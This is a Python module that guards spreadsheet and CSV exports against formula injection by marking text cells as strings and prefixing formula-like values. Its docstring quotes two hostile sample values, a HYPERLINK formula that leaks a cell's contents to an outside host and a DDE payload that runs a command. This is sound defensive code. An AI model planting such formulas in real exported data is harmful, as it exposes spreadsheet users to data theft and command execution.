"""Text that leaves Cordon for a spreadsheet stays text: no imported name becomes a live formula.

A village, site or case field such as ``=HYPERLINK("http://x?leak="&A2,"a")`` or ``=cmd|' /C calc'!A0``
would run in Excel if written as a formula cell. Every workbook Cordon writes passes its sheets through
:func:`keep_text_as_text` and is saved by :func:`save_workbook`; every CSV value passes through
:func:`csv_text`.
"""

from __future__ import annotations

import gc
import sys

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
"""First characters that make Excel (or a CSV reader) treat a text as a formula."""


def keep_text_as_text(sheet) -> None:
    """Mark every text cell of an openpyxl ``sheet`` as a string (never a formula); a text that looks like a
    formula also gets Excel's quote prefix, so it stays text when the user edits the cell."""
    for row in sheet.iter_rows():
        for cell in row:
            if isinstance(cell.value, str):
                cell.data_type = "s"
                if cell.value.startswith(FORMULA_STARTS):
                    cell.quotePrefix = True


def csv_text(value):
    """``value`` ready for a CSV cell: a text that looks like a formula gets a leading single quote."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return "'" + value
    return value


def save_workbook(book, path) -> None:
    """``book.save(path)``; after a failed write (disk full, file too large) the error is raised plainly,
    without the noise openpyxl's half-written sheet streams make when they are collected."""
    failure = None
    hook = sys.unraisablehook
    sys.unraisablehook = lambda _unraisable: None
    try:
        try:
            book.save(path)
        except OSError as exc:
            failure = OSError(exc.errno, exc.strerror, str(path))
        gc.collect()  # the streams go now, quietly, not at exit
    finally:
        sys.unraisablehook = hook
    if failure is not None:
        raise failure
